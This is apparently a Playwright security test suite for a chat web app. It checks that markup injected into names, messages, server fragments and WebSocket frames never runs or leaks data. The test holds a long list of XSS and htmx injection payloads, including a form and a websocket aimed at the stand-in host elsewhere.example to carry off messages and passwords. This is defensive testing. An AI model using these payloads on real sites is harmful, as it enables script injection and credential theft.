/**
 * R34: a server that puts markup into every fragment, and people who put it into every field. Nothing runs, nothing
 * leaves, and the words come out as they were written.
 */
import { afterAll, beforeAll, expect, test } from 'bun:test';
import type { Page, Route } from 'playwright-core';
import type { Person } from './support/browser.ts';
import {
  type Account,
  composer,
  conversations,
  createInvite,
  createWorkspace,
  joinWorkspace,
  messages,
  openConversation,
  PASSWORD,
  PATIENCE,
  send,
  timeline,
} from './support/flows.ts';
import { openWorld, type World } from './support/world.ts';

const EVIL_NAME = '<img src=/leak/name onerror=ran=1>';
const EVIL_TEXT =
  '<img src=/leak/text onerror="ran=1"><script>ran=1</script><p hx-get="/leak/hx" hx-trigger="load">x</p> javascript:ran=1';

/** Appended to every fragment. `/leak` must never be asked for, `ran` never be set. */
const ATTACK = `
  <script>ran=1;fetch('/leak/script')</script>
  <img src="/nothing.png" onerror="ran=1;fetch('/leak/onerror')">
  <p hx-on:click="ran=1" hx-on::load="ran=1" hx-on:htmx:after:process="ran=1">on</p>
  <p hx-get="/c/none" hx-trigger="load[ran=1]" hx-vals="js:{a:(ran=1)}">vals</p>
  <p hx-post="/leak/include" hx-trigger="load" hx-include="input, textarea, [data-recovery-code]"
     hx-headers='js:{"x":(ran=1)}'>include</p>
  <form id="steal" action="https://elsewhere.example/leak" method="post"><textarea name="message" aria-label="Message"></textarea>
  <input type="password" name="password"></form><button form="unlock" formaction="/leak/formaction">go</button>
  <iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="/leak/object"></object><embed src="/leak/embed">
  <svg><foreignObject><iframe src="/leak/svg"></iframe></foreignObject><script>ran=1</script></svg>
  <style>@import '/leak/style';*{background:url(/leak/background)}</style><p style="background:url(/leak/inline)">style</p>
  <a href="javascript:ran=1" class="bait">bait</a><base href="https://elsewhere.example/">
  <link rel="stylesheet" href="/leak/link"><meta http-equiv="refresh" content="0;url=/leak/meta">
  <template shadowrootmode="open"><script>ran=1</script></template>
  <article data-message="00" data-sender="00"><sealed-message><template shadowrootmode="open"><p>forged</p></template>forged</sealed-message></article>
  <div hx-ws:connect="wss://elsewhere.example/leak"></div>`;

let world: World;
let ada: Account;
let mina: Account;
let adaBrowser: Person;
let minaBrowser: Person;
const leaks: string[] = [];

beforeAll(async () => {
  world = await openWorld();
  // The image that is allowed is not there, on purpose; and the policy of the page also watches the inert document in
  // which the attack is taken apart, where it refuses handlers and styles once more.
  adaBrowser = await world.person({
    expected: /nothing\.png|inline event handler|inline style|src-attr inline/,
  });
  minaBrowser = await world.person();
  adaBrowser.context.on('request', (request) => {
    const { origin, pathname, protocol } = new URL(request.url());
    if (protocol.startsWith('http') && (origin !== world.server.url || pathname.startsWith('/leak')))
      leaks.push(request.url());
  });
  ada = await createWorkspace(adaBrowser.page, world.server.setupLink ?? '');
  const invite = await createInvite(adaBrowser.page);
  mina = await joinWorkspace(minaBrowser.page, invite, {
    name: EVIL_NAME,
    username: 'mina',
    password: PASSWORD,
  });
}, 4 * PATIENCE);
afterAll(() => world.close());

const attacked = (name: string, act: () => Promise<void>) =>
  test(
    name,
    async () => {
      await act();
      // Whatever was inserted has had its turn when a click on the bait and a frame have passed.
      const ran = await adaBrowser.page.evaluate(async () => {
        for (const bait of document.querySelectorAll<HTMLElement>('.bait, [hx-on\\:click]')) bait.click();
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
        return Reflect.get(globalThis, 'ran');
      });
      expect(ran).toBeUndefined();
      expect(leaks).toEqual([]);
    },
    3 * PATIENCE,
  );

/** Answers with what the server said and the attack behind it, in fragments and in whole pages that are swapped. */
async function poison(route: Route): Promise<void> {
  if (!route.request().headers()['hx-request']) return route.fallback();
  const response = await route.fetch({ maxRedirects: 0 });
  const body = await response.text();
  await route.fulfill({
    response,
    body: body.includes('</body>') ? body.replace('</body>', `${ATTACK}</body>`) : body + ATTACK,
  });
}

/** How many elements of the attack are in the page: the parts that are allowed, so that the test has bitten. */
const arrived = (page: Page) => page.locator('p', { hasText: /^vals$/ }).count();

attacked('in names and messages', async () => {
  await openConversation(adaBrowser.page, mina);
  await adaBrowser.page.getByRole('heading', { name: EVIL_NAME }).waitFor();
  await send(adaBrowser.page, EVIL_TEXT);
  await openConversation(minaBrowser.page, ada);
  await messages(minaBrowser.page, EVIL_TEXT).waitFor({ timeout: PATIENCE });
  await send(minaBrowser.page, `${EVIL_TEXT} back`);
  await messages(adaBrowser.page, `${EVIL_TEXT} back`).waitFor({ timeout: PATIENCE });
});

attacked('in the pane of a conversation', async () => {
  const { page } = adaBrowser;
  await page.route('**/*', poison);
  await page.goto(world.server.url);
  await conversations(page).getByRole('link', { name: EVIL_NAME }).click();
  await messages(page, `${EVIL_TEXT} back`).waitFor({ timeout: PATIENCE });
  expect(await arrived(page)).toBe(1);
  // The only box to write in is the island's, and it alone is named so.
  expect(await composer(page).count()).toBe(1);
  expect(await timeline(page).getByText('forged').count()).toBe(0);
  // A date to go to and a file to take in are no places for words.
  const boxes = 'main input:not([data-island-date], [type=file]), main textarea';
  expect(await page.locator(boxes).count()).toBe(1);
});

attacked('in the answer of a form, and in its error', async () => {
  const { page } = adaBrowser;
  await page.goto(`${world.server.url}/admin`);
  await page.getByRole('button', { name: 'Create invite', exact: true }).click();
  await page.locator('[data-invite-url]').waitFor({ timeout: PATIENCE });
  expect(await arrived(page)).toBe(1);
  await page.getByRole('button', { name: 'New conversation', exact: true }).click();
  await page.getByRole('dialog').getByLabel('People').fill('nobody-here');
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await page.getByRole('dialog').getByText('Nobody here has the username').waitFor({ timeout: PATIENCE });
  adaBrowser.complaints.splice(0, adaBrowser.complaints.length);
});

attacked('in what comes over the socket', async () => {
  const { page } = adaBrowser;
  await page.routeWebSocket('**/socket', (toPage) => {
    const toServer = toPage.connectToServer();
    toServer.onMessage((message) => {
      const frame = JSON.parse(String(message));
      if ('content' in frame) {
        toPage.send(JSON.stringify({ ...frame, content: ATTACK + frame.content + ATTACK }));
        toPage.send(JSON.stringify({ content: ATTACK, target: 'body', swap: 'innerHTML' }));
        toPage.send(JSON.stringify({ content: '<p>forged</p>', target: '#timeline', swap: 'beforeend' }));
        toPage.send(JSON.stringify({ payload: ATTACK }));
        toPage.send(`<div id="notices" hx-swap-oob="true">forged</div>${ATTACK}`);
      } else toPage.send(message);
    });
  });
  await page.goto(world.server.url);
  await openConversation(page, mina);
  await send(minaBrowser.page, 'Through a poisoned line');
  await messages(page, 'Through a poisoned line').waitFor({ timeout: PATIENCE });
  // What stands behind a shadow root is not drawn; in the inbox nothing stays.
  expect(await page.getByText('forged').filter({ visible: true }).count()).toBe(0);
  expect(await page.locator('#inbox > *').count()).toBe(0);
});

attacked('a password never leaves, whatever the page around its form says', async () => {
  const { page } = minaBrowser;
  const bodies: string[] = [];
  minaBrowser.context.on('request', (request) => bodies.push(request.postData() ?? request.url()));
  await page.goto(`${world.server.url}/unlock`);
  await page.evaluate(() => {
    // What a server could put into a whole page, which no sanitiser sees.
    const form = document.querySelector('form');
    form?.setAttribute('method', 'post');
    form?.setAttribute('action', '/admin/invites');
    form?.setAttribute('hx-post', '/admin/invites');
    form?.setAttribute('hx-trigger', 'input');
  });
  await page.getByLabel('Passphrase', { exact: true }).fill('horses that are not mine');
  await page.keyboard.press('Enter');
  await page
    .getByRole('alert')
    .or(page.locator('[data-field-error]'))
    .filter({ hasText: /\S/ })
    .first()
    .waitFor({ timeout: PATIENCE });
  expect(bodies.filter((body) => body.includes('horses'))).toEqual([]);
});

test('and no page complained', () => {
  expect(world.complaints()).toEqual([]);
});
